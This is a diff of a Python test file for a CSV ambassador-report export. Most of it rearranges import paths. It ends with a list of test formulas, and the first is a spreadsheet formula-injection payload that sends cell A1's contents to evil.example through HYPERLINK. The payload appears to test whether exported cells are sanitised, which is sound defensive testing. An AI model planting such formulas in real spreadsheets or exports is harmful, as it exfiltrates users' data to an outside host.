@@ -10,15 +10,15 @@ from pathlib import Path
 
 import pytest
 
-from cache.ambassador_report import REPORT_COLUMNS, _write_csv
-from cache.ingest import ingest
-from cache.safe_text import FORMULA_STARTS, spreadsheet_cell
-from cache.store import Store
+from cache.db.store import Store
+from cache.export.ambassador_report import REPORT_COLUMNS, _write_csv
+from cache.export.safe_text import FORMULA_STARTS, spreadsheet_cell
+from cache.write.ingest import ingest
 from filters.classify import Classifier
-from sources.config import Config
-from sources.twitter_v2 import parse_response
+from sources.model.config import Config
+from sources.x.twitter_v2 import parse_response
 from tests import builders
-from tests.test_ambassador_report import build_programme, profiles_by_handle
+from tests.store_helpers import build_programme, profiles_by_handle
 
 FORMULAS = [
     '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
